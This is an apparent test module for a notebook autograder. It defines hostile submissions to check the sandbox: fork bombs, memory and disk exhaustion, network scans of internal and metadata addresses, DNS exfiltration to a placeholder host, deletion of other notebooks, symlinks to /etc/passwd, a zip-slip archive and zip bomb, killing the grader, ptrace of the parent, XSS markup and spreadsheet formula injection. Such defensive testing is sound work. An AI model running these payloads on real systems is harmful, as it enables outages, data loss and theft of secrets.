"""Scenarios 29 to 34: attacks on the machine, on other people, on those who read."""

import zipfile
from pathlib import Path

from nbformat import NotebookNode
from scenario import Attack, Earns, and_right, at_import, in_call

from autograder.submission import role_of
from autograder.verdict import Outcome

MARKUP = """<script>document.title = 'mine'</script><img src=x onerror="alert(1)">
<svg onload=alert(1)><a href="javascript:alert(1)">=HYPERLINK("http://127.0.0.1/","x")</a>"""


def write_markup(notebook: NotebookNode) -> None:
    """Into written answers, comments and saved outputs."""
    for cell in notebook.cells:
        if role_of(cell) == "written":
            cell.source = MARKUP
        if cell.cell_type == "code":
            data = {"text/html": MARKUP, "image/svg+xml": MARKUP, "application/javascript": "alert(1)"}
            cell.outputs = [{"output_type": "display_data", "data": data, "metadata": {}}]


def bring_a_zip(folder: Path) -> None:
    """A path that leads out, and 64 MB in a few kilobytes."""
    with zipfile.ZipFile(folder / "more.zip", "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("../../../course.toml", "")
        with file.open("zeros.ipynb", "w", force_zip64=True) as zeros:
            for _ in range(64):
                zeros.write(bytes(1 << 20))


HARM = (
    Attack(
        "fork-bomb",
        (29,),
        "more processes than the machine has room for",
        in_call("import os\nwhile True:\n    os.fork()"),
    ),
    Attack(
        "daemon",
        (29,),
        "a process that outlives the grading",
        at_import("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.close(fd)
        time.sleep(3600)
    os._exit(0)"""),
    ),
    Attack(
        "subprocess",
        (29,),
        "another program does it",
        in_call("""
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3600)'], start_new_session=True)"""),
    ),
    Attack(
        "thread-bomb",
        (29,),
        "more threads than the machine has room for",
        in_call("""
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()"""),
    ),
    Attack(
        "eight-gigabytes",
        (30,),
        "all the memory there is",
        in_call("import torch\nreturn torch.ones(8 << 30, dtype=torch.uint8)"),
        outcome=Outcome.OUT_OF_MEMORY,
        says="out of memory",
    ),
    Attack(
        "bit-by-bit",
        (30,),
        "all the memory there is, slowly",
        in_call("""
kept = []
while True:
    try: kept.append(bytearray(1 << 28))
    except MemoryError: raise"""),
    ),
    Attack(
        "terabyte",
        (30,),
        "torch.empty costs nothing",
        in_call("import torch\nreturn torch.empty(1 << 40).expand(4, -1)"),
        says="memory",
    ),
    Attack(
        "fill-the-disk",
        (30,),
        "all the disk there is",
        in_call("with open('f', 'wb') as f:\n    while True:\n        f.write(bytes(1 << 20))"),
        says="OSError",
    ),
    Attack(
        "many-files",
        (30,),
        "10⁷ files",
        in_call("for n in range(10 ** 7): open(f'f{n}', 'w').close()"),
        says="OSError",
    ),
    Attack(
        "sparse-file",
        (30,),
        "a terabyte that is not there",
        in_call("import os\nwith open('sparse', 'wb') as f:\n    os.truncate(f.fileno(), 1 << 40)"),
        says="OSError",
    ),
    Attack(
        "shared-memory",
        (30, 46),
        "/dev/shm and /tmp are everybody's",
        in_call("""
for room in ('/dev/shm', '/tmp', '/var/tmp', '/run'):
    try: open(room + '/hostile-mark', 'wb').write(bytes(1 << 24))
    except OSError: pass"""),
    ),
    Attack(
        "print-without-end",
        (30,),
        "output until the reader dies",
        in_call("""
import os
for _ in range(20000):
    os.write(1, b'x' * 65536)
    os.write(2, b'y' * 65536)"""),
    ),
    Attack(
        "print-much",
        (30,),
        "20 MB of output from a right answer",
        and_right("for _ in range(20): print('z' * (1 << 20))"),
        earns=Earns.FULL,
    ),
    Attack(
        "scan",
        (31,),
        "who else is on this network?",
        in_call("""
import socket
for host, port in (("127.0.0.1", PORT), ("169.254.169.254", 80), ("10.0.0.1", 22), ("::1", PORT)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as line:
                line.settimeout(0.2)
                line.connect((host, port))
                line.send(b"found")
        except OSError:
            continue"""),
    ),
    Attack(
        "tell-by-dns",
        (31,),
        "a name server hears everything",
        in_call("import socket\nreturn socket.gethostbyname('the-secret-is-42.example.invalid')"),
    ),
    Attack(
        "write-outside",
        (32,),
        "other notebooks, made empty",
        in_call("""
from pathlib import Path
for p in Path(COURSE).rglob('*.ipynb'):
    if 'write-outside' not in str(p): p.write_text('')
return None"""),
    ),
    Attack(
        "plant-links",
        (32,),
        "whoever cleans up, cleans up elsewhere",
        at_import("""
import os
for name, target in (("a", COURSE), ("b", "/etc/passwd"), ("c", COURSE + "/gradebook.db")):
    try:
        os.symlink(target, name)
        os.link(target, name + "-hard")
    except OSError:
        pass
try:
    os.mkfifo("pipe")
except OSError:
    pass
os.makedirs("d/" * 200, exist_ok=True)"""),
    ),
    Attack("zip", (32,), "unpacked outside, and a bomb", in_call("return None"), place=bring_a_zip),
    Attack(
        "kill-everybody",
        (33,),
        "the grader dies, and its database with it",
        in_call("""
import os, signal
for who in (-1, 0, os.getppid(), 1):
    try: os.kill(who, signal.SIGKILL)
    except OSError: pass
return None"""),
    ),
    Attack(
        "trace-the-parent",
        (33,),
        "ptrace, pidfd and process_vm_writev",
        in_call("""
import ctypes, os
libc = ctypes.CDLL(None)
parent = os.getppid()
done = [libc.ptrace(16, parent, None, None), libc.syscall(434, parent, 0), libc.syscall(311, parent, 0, 0, 0, 0, 0)]
return done if max(done) >= 0 else None"""),
    ),
    Attack(
        "markup",
        (34,),
        "a script runs where the grader is logged in",
        and_right(f"print({MARKUP!r})\n# {MARKUP.splitlines()[0]}"),
        change=write_markup,
        earns=Earns.FULL,
    ),
    Attack(
        "markup-in-an-error",
        (34,),
        "a script runs where the student's page is read",
        in_call(f"raise type({MARKUP[:40]!r}, (Exception,), {{}})({MARKUP!r})"),
    ),
    Attack(
        "formula",
        (34, 47),
        "a spreadsheet calculates what I typed",
        in_call("raise type('=HYPERLINK(1)', (Exception,), {})('=cmd|calc')"),
    ),
)
